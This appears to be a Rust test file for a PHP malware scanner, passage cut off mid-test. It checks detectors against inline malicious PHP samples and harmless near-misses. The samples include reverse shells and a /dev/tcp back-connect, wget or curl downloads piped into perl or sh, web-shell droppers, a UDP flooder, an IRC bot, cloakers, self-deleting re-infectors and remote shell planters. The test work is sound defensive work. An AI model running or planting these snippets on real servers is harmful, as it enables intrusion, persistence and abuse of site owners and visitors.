//! Each family: a shape it finds and a near-miss it leaves alone; the own-written fixtures.

use super::*;
use crate::php;

fn whys(src: &str) -> Vec<(Why, Danger)> {
    let t = php::tokenize_for_test(src.as_bytes(), 100_000);
    let small = t.len() < 400;
    let mut out = hidden(src.as_bytes(), &t, Options { small });
    out.extend(analyze(src.as_bytes(), &t, Options { small }));
    out.into_iter().map(|s| (s.why, s.danger)).collect()
}

fn found(src: &str) -> Vec<Why> {
    whys(src).into_iter().map(|(w, _)| w).collect()
}

/// The own-written fixtures of each family (the integration test sweeps them all) are reported
/// through `detect::judge`, and give the family's reason (there, or from the families
/// themselves when the data-flow analysis already found the file critical and the families
/// were not asked).
#[test]
fn each_fixture_is_reported_for_its_family() {
    let cases: &[(&str, &str, Why)] = &[
        (
            "loader_glued_in_front.php",
            include_str!("../../../tests/fixtures/sweep/malicious/loader_glued_in_front.php"),
            Why::LoaderInFront,
        ),
        (
            "cron_reinstaller.php",
            include_str!("../../../tests/fixtures/sweep/malicious/cron_reinstaller.php"),
            Why::InstallsCronJob,
        ),
        (
            "footer_prints_remote_links.php",
            include_str!("../../../tests/fixtures/sweep/malicious/footer_prints_remote_links.php"),
            Why::PrintsRemoteContent,
        ),
        (
            "wp_plugin_hides_admin.php",
            include_str!("../../../tests/fixtures/sweep/malicious/wp_plugin_hides_admin.php"),
            Why::HiddenAdministrator,
        ),
        (
            "wp_plugin_hides_itself.php",
            include_str!("../../../tests/fixtures/sweep/malicious/wp_plugin_hides_itself.php"),
            Why::HidesItsPlugin,
        ),
        (
            "shuffled_remote_loader.php",
            include_str!("../../../tests/fixtures/sweep/malicious/shuffled_remote_loader.php"),
            Why::EvalOfDecoded,
        ),
        (
            "backdating_self_deleting_dropper.php",
            include_str!("../../../tests/fixtures/sweep/malicious/backdating_self_deleting_dropper.php"),
            Why::BackdatesFiles,
        ),
        (
            "download_piped_to_interpreter.php",
            include_str!("../../../tests/fixtures/sweep/malicious/download_piped_to_interpreter.php"),
            Why::DownloadsProgram,
        ),
        (
            "reverse_shell_socket.php",
            include_str!("../../../tests/fixtures/sweep/malicious/reverse_shell_socket.php"),
            Why::RemoteShell,
        ),
        (
            "irc_bot_privmsg.php",
            include_str!("../../../tests/fixtures/sweep/malicious/irc_bot_privmsg.php"),
            Why::NetworkBot,
        ),
        (
            "udp_flood_loop.php",
            include_str!("../../../tests/fixtures/sweep/malicious/udp_flood_loop.php"),
            Why::NetworkBot,
        ),
        (
            "socket_relay_from_request.php",
            include_str!("../../../tests/fixtures/sweep/malicious/socket_relay_from_request.php"),
            Why::NetworkFromInput,
        ),
        (
            "googlebot_curl_cloak.php",
            include_str!("../../../tests/fixtures/sweep/malicious/googlebot_curl_cloak.php"),
            Why::SearchEngineCloaking,
        ),
        (
            "credential_mailer_kit.php",
            include_str!("../../../tests/fixtures/sweep/malicious/credential_mailer_kit.php"),
            Why::CredentialCollector,
        ),
        (
            "php_dropper_literal.php",
            include_str!("../../../tests/fixtures/sweep/malicious/php_dropper_literal.php"),
            Why::WritesCodeWithInput,
        ),
        (
            "wget_chmod_run.php",
            include_str!("../../../tests/fixtures/sweep/malicious/wget_chmod_run.php"),
            Why::DownloadsProgram,
        ),
        (
            "server_console_form.php",
            include_str!("../../../tests/fixtures/sweep/malicious/server_console_form.php"),
            Why::WebShellConsole,
        ),
        (
            "injected_obfuscated_script.php",
            include_str!("../../../tests/fixtures/sweep/malicious/injected_obfuscated_script.php"),
            Why::InjectedScript,
        ),
        (
            "injected_throwaway_domain_script.php",
            include_str!("../../../tests/fixtures/sweep/malicious/injected_throwaway_domain_script.php"),
            Why::InjectedScript,
        ),
        (
            "ini_restore_bypass.php",
            include_str!("../../../tests/fixtures/sweep/malicious/ini_restore_bypass.php"),
            Why::PhpWeakened,
        ),
        (
            "config_grabber_homes.php",
            include_str!("../../../tests/fixtures/sweep/malicious/config_grabber_homes.php"),
            Why::ReadsOtherSites,
        ),
        (
            "form_field_register_globals_shell.php",
            include_str!("../../../tests/fixtures/sweep/malicious/form_field_register_globals_shell.php"),
            Why::ShellFromInput,
        ),
        (
            "upload_form_field_copy.php",
            include_str!("../../../tests/fixtures/sweep/malicious/upload_form_field_copy.php"),
            Why::UploadDropper,
        ),
        (
            "location_beacon_mail.php",
            include_str!("../../../tests/fixtures/sweep/malicious/location_beacon_mail.php"),
            Why::ReportsItsLocation,
        ),
        (
            "mass_mailer_textarea_loop.php",
            include_str!("../../../tests/fixtures/sweep/malicious/mass_mailer_textarea_loop.php"),
            Why::MailFromInput,
        ),
        (
            "mass_script_injector.php",
            include_str!("../../../tests/fixtures/sweep/malicious/mass_script_injector.php"),
            Why::InjectedScript,
        ),
        (
            "form_field_file_editor.php",
            include_str!("../../../tests/fixtures/sweep/malicious/form_field_file_editor.php"),
            Why::UploadDropper,
        ),
        (
            "sql_into_outfile_shell.php",
            include_str!("../../../tests/fixtures/sweep/malicious/sql_into_outfile_shell.php"),
            Why::DatabaseWritesFile,
        ),
        (
            "phishing_bot_filter.php",
            include_str!("../../../tests/fixtures/sweep/malicious/phishing_bot_filter.php"),
            Why::PhishingBotFilter,
        ),
        (
            "property_pieces_name.php",
            include_str!("../../../tests/fixtures/sweep/malicious/property_pieces_name.php"),
            Why::HiddenFunctionName,
        ),
        (
            "globals_table_names.php",
            include_str!("../../../tests/fixtures/sweep/malicious/globals_table_names.php"),
            Why::HiddenFunctionName,
        ),
        (
            "number_list_table_names.php",
            include_str!("../../../tests/fixtures/sweep/malicious/number_list_table_names.php"),
            Why::HiddenFunctionName,
        ),
        (
            "escaped_globals_eval.php",
            include_str!("../../../tests/fixtures/sweep/malicious/escaped_globals_eval.php"),
            Why::EvalOfDecoded,
        ),
        (
            "escaped_server_keys.php",
            include_str!("../../../tests/fixtures/sweep/malicious/escaped_server_keys.php"),
            Why::ObfuscatedNames,
        ),
        (
            "padded_doorway_referer_jump.php",
            include_str!("../../../tests/fixtures/sweep/malicious/padded_doorway_referer_jump.php"),
            Why::SearchEngineCloaking,
        ),
        (
            "xor_session_key_loader.php",
            include_str!("../../../tests/fixtures/sweep/malicious/xor_session_key_loader.php"),
            Why::EvalOfDecoded,
        ),
        (
            "underscore_increment_name.php",
            include_str!("../../../tests/fixtures/sweep/malicious/underscore_increment_name.php"),
            Why::HiddenFunctionName,
        ),
        (
            "xor_string_table.php",
            include_str!("../../../tests/fixtures/sweep/malicious/xor_string_table.php"),
            Why::ObfuscatedNames,
        ),
        (
            "xor_literal_names.php",
            include_str!("../../../tests/fixtures/sweep/malicious/xor_literal_names.php"),
            Why::HiddenFunctionName,
        ),
        (
            "variable_variable_table_names.php",
            include_str!("../../../tests/fixtures/sweep/malicious/variable_variable_table_names.php"),
            Why::HiddenFunctionName,
        ),
        (
            "fingerprinting_collector.php",
            include_str!("../../../tests/fixtures/sweep/malicious/fingerprinting_collector.php"),
            Why::CredentialCollector,
        ),
        (
            "mail_relay_check.php",
            include_str!("../../../tests/fixtures/sweep/malicious/mail_relay_check.php"),
            Why::MailFromInput,
        ),
        (
            "hex_function_list.php",
            include_str!("../../../tests/fixtures/sweep/malicious/hex_function_list.php"),
            Why::ObfuscatedNames,
        ),
        (
            "own_file_name_function.php",
            include_str!("../../../tests/fixtures/sweep/malicious/own_file_name_function.php"),
            Why::HiddenFunctionName,
        ),
        (
            "collector_from_session_fields.php",
            include_str!("../../../tests/fixtures/sweep/malicious/collector_from_session_fields.php"),
            Why::CredentialCollector,
        ),
        (
            "injector_pastes_cookie_eval.php",
            include_str!("../../../tests/fixtures/sweep/malicious/injector_pastes_cookie_eval.php"),
            Why::WritesCodeWithInput,
        ),
        (
            "encoded_script_tag_printed.php",
            include_str!("../../../tests/fixtures/sweep/malicious/encoded_script_tag_printed.php"),
            Why::InjectedScript,
        ),
    ];
    for (name, text, why) in cases {
        let hits = crate::detect::judge(&format!("lib/{name}"), name, text.as_bytes(), &[]);
        let family = hits.iter().any(|h| h.why == *why) || found(text).contains(why);
        assert!(family && hits.iter().any(|h| h.danger >= Danger::Medium), "{name}: {hits:?} {:?}", found(text));
    }
}

#[test]
fn backdating_and_self_deletion_are_found() {
    let dropper = "<?php if (file_exists('./x.php')) { touch('./x.php', time() - 60*60*24*30); } unlink(__FILE__);";
    assert_eq!(whys(dropper), [(Why::BackdatesFiles, Danger::High), (Why::DeletesItself, Danger::High)]);
    assert_eq!(found("<?php touch($f, strtotime('2014-03-02 10:00:00'));"), [Why::BackdatesFiles]);
    assert_eq!(found("<?php touch($f, 1388534400);"), [Why::BackdatesFiles]);
    assert_eq!(whys("<?php @unlink($_SERVER['SCRIPT_FILENAME']);"), [(Why::DeletesItself, Danger::Medium)]);
    // Through a variable given the script's own path (a reinfector that restores the site's
    // index.php in a loop, dated 400 days back).
    let lock = "<?php $me = __FILE__; $dir = dirname($me); @unlink($me); \
                while (true) { @file_put_contents($dir . '/index.php', $saved); \
                @touch($dir . '/index.php', strtotime('-400 days', time())); sleep(1); }";
    assert_eq!(whys(lock), [(Why::BackdatesFiles, Danger::High), (Why::DeletesItself, Danger::High)]);
    // Near-miss: a variable given another path, or the script's path reassigned later.
    assert!(!found("<?php $me = __FILE__; $log = $me . '.log'; @unlink($log);").contains(&Why::DeletesItself));
    // A file's time saved, the file rewritten, the time put back.
    let stomp = "<?php $t = filemtime('../wp-config.php'); $s = file_get_contents('../wp-config.php'); \
                 file_put_contents('../wp-config.php', str_replace('a', 'b', $s)); touch('../wp-config.php', $t, $t);";
    assert_eq!(whys(stomp), [(Why::BackdatesFiles, Danger::Medium)]);
    // Regression: fresh103's re-infector, padded past a small script, puts its shell back
    // read-only and dated 237 days back; a test suite's fixture dates stay weak.
    let pad = "$pad[] = 1; ".repeat(120);
    let keep = format!(
        "<?php {pad}\nif (md5_file($f) != $sum) {{ copy($src, $f); chmod($f, 0444); @touch($f, strtotime('-237 days', time())); }}"
    );
    assert_eq!(whys(&keep), [(Why::BackdatesFiles, Danger::High)]);
    let fixture = keep.replace("0444", "0644");
    assert_eq!(whys(&fixture), [(Why::BackdatesFiles, Danger::Low)]);
}

#[test]
fn callbacks_kept_in_globals_are_quiet() {
    // A callback named in full, or a text joined from a table that is not called.
    assert!(found("<?php $GLOBALS['cb'] = 'strtoupper'; echo $GLOBALS['cb']($name);").is_empty());
    let table = "<?php $t = 'abcdef'; $GLOBALS['label'] = $t[0] . $t[1] . $t[2] . $t[3]; echo $GLOBALS['label'];";
    assert!(found(table).is_empty());
}

#[test]
fn ordinary_touch_and_unlink_are_quiet() {
    // Tests age a cache file by seconds; caches touch with the current time.
    assert!(found("<?php touch(__DIR__.'/tmp/a', time() - 3); touch($file); touch($f, time());").is_empty());
    assert!(found("<?php touch($cache, strtotime('-10 minutes')); touch($next, strtotime('+1 day'));").is_empty());
    assert!(found("<?php unlink($tmp); @unlink($this->file);").is_empty());
    // A generator writing a self-deleting script is text, not a call.
    assert!(found("<?php $data .= 'if (@unlink(__FILE__)) {' . \"\\n\";").is_empty());
    // Copying another file's time is weak on its own in a large file.
    let big = format!("<?php {} touch($to, filemtime($from));", "$a = 1; ".repeat(200));
    assert_eq!(whys(&big), [(Why::BackdatesFiles, Danger::Low)]);
    // A variable of some other time.
    assert!(found("<?php $t = time(); touch($f, $t);").is_empty());
}

#[test]
fn remote_shells_and_bots_are_found() {
    let reverse = "<?php $s = fsockopen($ip, 4444); $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);";
    assert_eq!(found(reverse), [Why::RemoteShell]);
    let irc = "<?php $c = fsockopen($server, 6667); fputs($c, \"NICK $nick\\r\\n\"); \
               while ($l = fgets($c)) { if (strpos($l, 'PRIVMSG') !== false) { fputs($c, \"PRIVMSG #c :ok\\r\\n\"); } }";
    assert_eq!(found(irc), [Why::NetworkBot]);
    let flood = "<?php set_time_limit(0); $h = $_GET['h']; $end = time() + 60; \
                 while (time() < $end) { $f = fsockopen('udp://' . $h, rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); fclose($f); }";
    assert!(found(flood).contains(&Why::NetworkBot), "{:?}", found(flood));
    // fresh112's flooder lifts the limit through the setting.
    let setting = flood.replace("set_time_limit(0);", "ini_set('max_execution_time', 0);");
    assert!(found(&setting).contains(&Why::NetworkBot), "{:?}", found(&setting));
}

#[test]
fn mail_clients_and_lookups_are_not_bots() {
    let pop3 =
        "<?php $fp = fsockopen($server, 110); fputs($fp, \"USER $user\\r\\n\"); fputs($fp, \"PASS $pass\\r\\n\");";
    assert!(found(pop3).is_empty());
    let dns = "<?php $fp = fsockopen('udp://' . $dns, 53); for ($i = 0; $i < 3; $i++) { fwrite($fp, $query); }";
    assert!(found(dns).is_empty());
    let smtp = "<?php $fp = fsockopen($config['smtp_host'], 25); exec('hostname', $out);";
    assert!(found(smtp).is_empty());
    // A parameter named `cmd` is not a shell handed to a socket.
    let agent = "<?php $fp = fsockopen($host, 9000); $c = $opts['cmd']; exec('uptime', $out);";
    assert!(found(agent).is_empty());
}

#[test]
fn visitor_chosen_connections_are_found() {
    let relay = "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_connect($s, $_GET['i'], $_GET['p']); socket_send($s, $_GET['m'], 99, 0);";
    assert_eq!(whys(relay), [(Why::NetworkFromInput, Danger::High)]);
    let through = "<?php $host = trim($_POST['host']); $fp = fsockopen($host, 80);";
    assert_eq!(found(through), [Why::NetworkFromInput]);
    assert!(found("<?php $fp = fsockopen($this->host, $this->port);").is_empty());
    // Regression: fresh177's reGeorg tunnel connects where the request's `X-TARGET` header says.
    let tunnel = "<?php $headers = apache_request_headers(); $target = $headers['X-TARGET']; $port = (int) $headers['X-PORT'];\n\
                  $sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); $res = @socket_connect($sock, $target, $port);";
    assert_eq!(found(tunnel), [Why::NetworkFromInput]);
    // fresh109's Drupalgeddon exploiter: an SQL injection posted to the site the visitor names.
    let exploit = "<?php $url = $_GET['url']; $post = \"name[0;update users set name %3D 'x' where uid %3D '1';#]=a\";\n\
                   $ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => $post)));\n\
                   $data = file_get_contents($url . '/user/login/', null, $ctx);";
    assert_eq!(whys(exploit), [(Why::NetworkFromInput, Danger::High)]);
    // (A short injection in an address, `%27or`, is read whole.)
    let short = "<?php $u = $_GET['u']; file_get_contents($u . '?id=1%27or');";
    assert_eq!(found(short), [Why::NetworkFromInput]);
    // An application's own query, written plain: quiet.
    let own = "<?php $id = (int) $_GET['id']; $db->query('UPDATE users SET seen = 1 WHERE id = ' . $id); \
               $page = file_get_contents('https://api.example/status');";
    assert!(found(own).is_empty());
}

#[test]
fn search_engine_cloaking_is_found() {
    let cloak = "<?php $ua = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($ua, 'googlebot') !== false) { \
                 $ch = curl_init('http://spam.example/page?u=' . $_SERVER['REQUEST_URI']); \
                 curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($ch); exit; }";
    assert_eq!(found(cloak), [Why::SearchEngineCloaking]);
    let bare = "<?php $b = getenv('HTTP_USER_AGENT'); if (stristr($b, 'bing')) { echo file_get_contents('http://links.example/l.txt'); }";
    // (The link list it prints is also another site's text printed raw.)
    assert!(found(bare).contains(&Why::SearchEngineCloaking), "{:?}", found(bare));
    // fresh40's `wp-includes/index.php`: the crawler's name and the address's parts kept in
    // base64 (`Z29vZ2xl` is `google`).
    let encoded = r#"<?php $u = base64_decode("Li4u") . mb_strtolower($_SERVER[HTTP_USER_AGENT]);
        if (mb_stripos($u, base64_decode("Z29vZ2xl"))) { $a = base64_decode("MTc2"); $p = base64_decode("Y2FrZXM=");
        $c = curl_init(); curl_setopt($c, CURLOPT_URL, "http://$a.31.253.227/$p/?useragent=$u&domain=$_SERVER[HTTP_HOST]");
        $o = curl_exec($c); curl_close($c); echo $o; }"#;
    assert_eq!(found(encoded), [Why::SearchEngineCloaking]);
    // fresh69's Japanese keyword cloakers: the headers read through a getter of the file's own.
    let getter = r#"<?php function k($e) { return @$_SERVER[$e] ? $_SERVER[$e] : ""; } $g = k('HTTP_USER_AGENT');
        $bb = array("ua" => $g, "isBot" => preg_match("@google|yahoo|bing@", $g) ? "1" : "");
        $w = @file_get_contents('http://spam.example.ru/page?' . http_build_query($bb)); echo $w;"#;
    assert_eq!(found(getter), [Why::SearchEngineCloaking]);
    // The same with a word that names no crawler (`ZmlyZWZveA==` is `firefox`).
    assert!(found(&encoded.replace("Z29vZ2xl", "ZmlyZWZveA==")).is_empty());
    // fresh151's ClickBank cloaker: Googlebot told apart by a function of another file, sent to
    // a white page, people sent on to the offer.
    let offer = "<?php require 'bot_check.php'; function get_user_agent() { return $_SERVER['HTTP_USER_AGENT']; }\n\
                 function redirect_to_page($url) { header('Location: ' . $url); exit(); }\n\
                 if (is_google_bot(get_user_agent())) { redirect_to_page('home.php'); } else {\n\
                 echo '<script>setTimeout(function(){ window.location.href = \"' . 'https://8a470nte.hop.clickbank.net' . '\"; }, 4000);</script>'; }";
    assert_eq!(found(offer), [Why::SearchEngineCloaking]);
    // fresh162's YellowCloaker: reviewers and crawlers get the white page, paying traffic the black.
    let yellow = "<?php require_once 'core.php'; $cloaker = new Cloaker($os_white, $country_white, $ua_black, $isp_black);\n\
                  if ($cloaker->check() == 0) { black($cloaker->detect); return; } else { white(false); }";
    assert!(super::may_match(yellow.as_bytes()));
    assert_eq!(found(yellow), [Why::SearchEngineCloaking]);
    let class = "<?php class Cloaker { var $os_white; var $ua_black; function check() { return 0; } }";
    assert_eq!(found(class), [Why::SearchEngineCloaking]);
    // A link-cloaking plugin's settings name neither page.
    let links = "<?php class Link_Cloaker_Settings { var $prefix = 'go'; }";
    assert!(found(links).is_empty());
    // A cache that skips crawlers fetches nothing.
    let cache = "<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) { return; } $page = file_get_contents($cache_file);";
    assert!(found(cache).is_empty());
    // A theme telling old browsers apart, with Google's fonts and a local file read.
    let theme = "<?php $ie = strpos($_SERVER['HTTP_USER_AGENT'], 'MSIE') !== false; \
                 $fonts = 'https://fonts.googleapis.com/css?family=Lato'; $json = file_get_contents(__DIR__ . '/theme.json');";
    assert!(found(theme).is_empty());
}

#[test]
fn a_stored_page_shown_to_crawlers_and_search_visitors_is_cloaking() {
    // fresh37's gambling doorway: a page kept in a file, printed to search engines' crawlers and
    // to visitors they send, then the script stops.
    let cloak = r#"<?php $f = "uploads/snapshot.html"; $k = strtolower($_SERVER["HTTP_USER_AGENT"]);
        if (strpos($k, 'baidu') !== false || strpos($k, 'bing') !== false) { echo file_get_contents($f); exit; }
        if (isset($_SERVER["HTTP_REFERER"])) { $k = strtolower($_SERVER["HTTP_REFERER"]);
        if (strpos($k, 'baidu') !== false) { echo file_get_contents($f); exit; } }"#;
    assert_eq!(found(cloak), [Why::SearchEngineCloaking]);
    // Without the referrer (a cache serving crawlers a stored copy), or without stopping.
    let crawlers_only = r#"<?php $k = $_SERVER["HTTP_USER_AGENT"]; if (stripos($k, 'bing') !== false) { echo file_get_contents('cache/page.html'); exit; }"#;
    assert!(found(crawlers_only).is_empty());
    let goes_on = cloak.replace("exit;", "");
    assert!(found(&goes_on).is_empty());
    // fresh80's front page: a stored page printed to crawlers on the home page, the crawlers
    // sent there from every other page, WordPress loaded for everyone else.
    let front = r#"<?php $bots = ['google', 'bot', 'crawler', 'spider']; $ua = strtolower($_SERVER['HTTP_USER_AGENT']);
        $uri = $_SERVER['REQUEST_URI']; $is_bot = false; foreach ($bots as $b) { if (stripos($ua, $b) !== false) { $is_bot = true; } }
        if ($is_bot && $uri == '/') { echo file_get_contents("readme.txt"); exit(); }
        if ($is_bot && $uri !== '/') { header("Location: /", true, 302); exit(); }
        require __DIR__ . '/wp-blog-header.php';"#;
    assert_eq!(found(front), [Why::SearchEngineCloaking]);
    // Regressions (review): the same read silenced, under the script's folder, in brackets;
    // and a single-page application's snapshot for crawlers (a page, `.html`) beside a
    // redirect to HTTPS.
    for shape in [
        front.replace("echo file_get_contents(", "echo @file_get_contents("),
        front.replace("file_get_contents(\"readme.txt\")", "file_get_contents(__DIR__ . \"/readme.txt\")"),
        front.replace("echo file_get_contents(\"readme.txt\");", "echo(file_get_contents(\"readme.txt\"));"),
    ] {
        assert_eq!(found(&shape), [Why::SearchEngineCloaking], "{shape}");
    }
    let spa = r#"<?php if (empty($_SERVER['HTTPS'])) { header('Location: https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'], true, 301); exit; }
        if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { readfile('snapshot.html'); exit; } readfile('app.html');"#;
    assert!(found(spa).is_empty());
}

#[test]
fn a_page_written_out_for_crawlers_only_is_cloaking() {
    // fresh75's gambling doorway in OJS's `main.inc.php`: the whole page, outside PHP, printed
    // when the browser's name holds Googlebot's.
    let links = "<a href=\"https://slot.example/\">slot gacor</a>\n".repeat(60);
    let page = format!("<!DOCTYPE HTML>\n<html><head><title>SLOT777 gacor</title></head><body>{links}</body></html>\n");
    let cloak = format!(
        "<?php\nif (strstr(strtolower($_SERVER['HTTP_USER_AGENT']), \"googlebot\"))\n{{\n?>\n{page}<?php\n}}\nelse {{ include 'index.html'; }}\n"
    );
    assert_eq!(found(&cloak), [Why::SearchEngineCloaking]);
    let tested = cloak.replace(
        "strstr(strtolower($_SERVER['HTTP_USER_AGENT']), \"googlebot\")",
        "stripos($_SERVER['HTTP_USER_AGENT'], 'bingbot') !== false",
    );
    assert_eq!(found(&tested), [Why::SearchEngineCloaking]);
    // Near-misses: the page kept from crawlers (a members' area), a short notice for them, and
    // a theme's markup for old browsers.
    for quiet in [
        cloak.replace("if (strstr(", "if (!strstr("),
        tested.replace("!== false", "=== false"),
        cloak.replace(&page, "<p>Hello, robot.</p>\n"),
        cloak.replace("googlebot", "MSIE 6"),
        // Regressions (review): a mobile theme's switch naming Googlebot's phone among phones,
        // and a page for people only.
        cloak.replace(
            "strstr(strtolower($_SERVER['HTTP_USER_AGENT']), \"googlebot\")",
            "preg_match('/iphone|android|googlebot-mobile/i', $_SERVER['HTTP_USER_AGENT'])",
        ),
        cloak.replace(
            "strstr(strtolower($_SERVER['HTTP_USER_AGENT']), \"googlebot\")",
            "preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT']) === 0",
        ),
    ] {
        assert!(found(&quiet).is_empty(), "{quiet}");
    }
    // Regressions (review): the browser's name kept in a variable first, a guard beside the
    // test, and the site's host echoed early in the page.
    let kept = cloak.replace(
        "if (strstr(strtolower($_SERVER['HTTP_USER_AGENT']), \"googlebot\"))",
        "$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false)",
    );
    let guarded = cloak.replace("if (strstr(", "if (!empty($_SERVER['HTTP_USER_AGENT']) && strstr(");
    let echoed = cloak
        .replace("<title>", "<link rel=\"canonical\" href=\"https://<?php echo $_SERVER['HTTP_HOST']; ?>/\"><title>");
    for shape in [kept, guarded, echoed] {
        assert_eq!(found(&shape), [Why::SearchEngineCloaking], "{shape}");
    }
}

#[test]
fn search_engine_visitors_redirected_are_found() {
    let redirect = "<?php $r = $_SERVER['HTTP_REFERER']; if (preg_match('/google|yahoo|bing/i', $r)) { \
                    header('Location: ' . 'https://pills.example/?k=' . urlencode($r)); exit; }";
    assert_eq!(found(redirect), [Why::SearchEngineCloaking]);
    let hidden = "<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'bot') !== false) { \
                  echo file_get_contents(base64_decode('aHR0cDovL2xpbmtzLmV4YW1wbGUvcA==')); }";
    assert_eq!(found(hidden), [Why::SearchEngineCloaking]);
    // fresh110's Moodle front page: crawlers sent away by one header naming the address.
    let moved = "<?php $bots = ['googlebot', 'bingbot']; $ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');\n\
                 foreach ($bots as $b) { if (strpos($ua, $b) !== false) { header('HTTP/1.1 301 Moved Permanently');\n\
                 header('Location: https://spam.example/'); exit; } }";
    assert_eq!(found(moved), [Why::SearchEngineCloaking]);
}

#[test]
fn redirects_without_search_engines_are_quiet() {
    let login = "<?php if (strpos($_SERVER['HTTP_REFERER'], $site) === false) { header('Location: https://' . $site . '/login'); }";
    assert!(found(login).is_empty());
    // fresh113's dsIDXpress: the browser sent on to its API, a map script's host named; no
    // crawler in it.
    let api = "<?php $p['ua'] = $_SERVER['HTTP_USER_AGENT']; $u = str_replace('http://', '', $blog);\n\
               if (preg_match('/maps.google.com/i', $src) || preg_match('/maps.googleapis.com/i', $src)) { $k = $o->{'GoogleMapsAPIKey'}; }\n\
               header('Location: ' . $uri . '?' . http_build_query($p));";
    assert!(found(api).is_empty(), "{:?}", found(api));
    // (Google's own referrer is a search engine's.)
    let referred = api.replace("/maps.google.com/i', $src", "/google.com/i', $_SERVER['HTTP_REFERER']");
    assert!(found(&referred).contains(&Why::SearchEngineCloaking), "{:?}", found(&referred));
}

#[test]
fn droppers_are_found() {
    let code = "<?php $f = fopen('wp-content/x.php', 'w'); fwrite($f, '<?php @eval($_POST[\"p\"]); ?>'); fclose($f);";
    assert_eq!(found(code), [Why::WritesCodeWithInput]);
    let download = "<?php system('cd /tmp; wget http://203.0.113.9/bot.pl -O b.pl; perl b.pl');";
    assert_eq!(found(download), [Why::DownloadsProgram]);
    // Regression: fresh103's AnakDompu keeps its Perl bot as text (`perl x.txt`).
    let as_text = "<?\n@passthru('cd /tmp;wget http://203.0.113.6/id/n.txt;perl n.txt;rm -f n.txt*');";
    assert_eq!(found(as_text), [Why::DownloadsProgram]);
    // Regression: fresh103's back-connect, one command run by `exec` (and the file passes the
    // cheap look before tokens, which had none of its words).
    let back = "<?php exec('/bin/bash -c \"bash -i >& /dev/tcp/192.0.2.6/1234 0>&1\"'); ?>";
    assert_eq!(found(back), [Why::RemoteShell]);
    assert!(super::may_match(back.as_bytes()));
    // Regression: fresh160's `run_gsocket.php` fetches and runs Global Socket's installer.
    let gsocket = "<?php $dst = __DIR__ . '/tmp/g.sh'; shell_exec('/bin/wget -O ' . escapeshellarg($dst) . ' https://gsocket.io/y 2>&1');\n\
                   chmod($dst, 0700); echo shell_exec('sh ' . escapeshellarg($dst));";
    assert_eq!(found(gsocket), [Why::RemoteShell]);
    assert!(super::may_match(gsocket.as_bytes()));
    // A port checked with bash's `/dev/tcp` starts no shell for anyone.
    let probe = "<?php exec('timeout 1 bash -c \"echo > /dev/tcp/127.0.0.1/3306\" && echo open', $out);";
    assert!(found(probe).is_empty(), "{:?}", found(probe));
    // fresh114's one-liner: a script downloaded by curl into a PHP file of the site.
    let saved = "<?php if ($_GET['install'] == 'x') { shell_exec('curl -o up.php https://raw.githubusercontent.com/a/b/main/up.php'); }";
    assert_eq!(found(saved), [Why::CodeFromInternet]);
    let after = "<?php exec('wget https://example.org/x.txt -O x.php');";
    assert_eq!(found(after), [Why::CodeFromInternet]);
    // (A download saved as data: quiet.)
    assert!(found("<?php exec('curl -o rates.json https://api.example.org/rates');").is_empty());
    // fresh111's gsocket installers: a download run as the text of a shell's command.
    let substituted = "<?php system('bash -c \"$(curl -fsSL https://minisocket.io/bin/x)\"')";
    assert_eq!(found(substituted), [Why::DownloadsProgram]);
    // (A command's output kept, nothing fetched run: quiet.)
    assert!(found("<?php $v = shell_exec('bash -c \"$(which php) -v\"');").is_empty());
    let readme = "<?php exec('wget https://example.org/notes.txt -O notes.txt; cat notes.txt');";
    assert!(found(readme).is_empty(), "{:?}", found(readme));
    let chmod = "<?php $c = 'curl -s -o /tmp/k https://bad.example/k && chmod +x /tmp/k'; shell_exec($c);";
    assert_eq!(found(chmod), [Why::DownloadsProgram]);
    let pieces = "<?php $u = 'http://203.0.113.9/k'; exec('wget ' . 'http://203.0.113.9/k' . ' -O /tmp/k; chmod 755 /tmp/k; /tmp/k');";
    assert_eq!(found(pieces), [Why::DownloadsProgram]);
    // Printed straight into an interpreter: no file, and the address needs no scheme.
    let piped = "<?php echo 'ok'; system(\"wget -q -O - 198.51.100.7/x |perl\");";
    assert_eq!(found(piped), [Why::DownloadsProgram]);
    let piped_sh = "<?php shell_exec('curl -fsSL https://bad.example/i' . ' | sh');";
    assert_eq!(found(piped_sh), [Why::DownloadsProgram]);
}

#[test]
fn a_shell_fetched_from_a_code_host_and_written_is_a_dropper() {
    // fresh79's `anjas` and fresh73's summoner: a GitHub-hosted shell fetched by a helper and
    // planted in every writable folder.
    let planter = r#"<?php $remote = 'https://raw.githubusercontent.com/someone/public/refs/heads/main/pica2.php';
        function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); return curl_exec($c); }
        $code = get($remote); foreach (glob('*', GLOB_ONLYDIR) as $d) { file_put_contents("$d/.cache.php", $code); }"#;
    assert_eq!(found(planter), [Why::CodeFromInternet]);
    let paste = planter.replace(
        "https://raw.githubusercontent.com/someone/public/refs/heads/main/pica2.php",
        "https://pastebin.com/raw/Ab12Cd34",
    );
    assert_eq!(found(&paste), [Why::CodeFromInternet]);
    // fresh116's reinfector: the scheme joined on in pieces, the shell saved and included.
    let pieces = "<?php $s = 'htt' . 'ps://'; $url = $s . 'raw.githubusercontent.com/a/b/refs/heads/main/m.php';\n\
                  function dl($u, $f) { $c = @file_get_contents($u); @file_put_contents($f, $c); }\n\
                  dl($url, 'query.php'); include 'query.php';";
    assert_eq!(found(pieces), [Why::CodeFromInternet]);
    // Near-misses: a stub generator fetching files it names by a variable, a plugin reading
    // a changelog from GitHub, and a shell's address fetched to be shown, not written.
    let stubs = planter.replace("refs/heads/main/pica2.php'", "develop/' . $name . '.stub.php'");
    assert!(found(&stubs).is_empty(), "{stubs}");
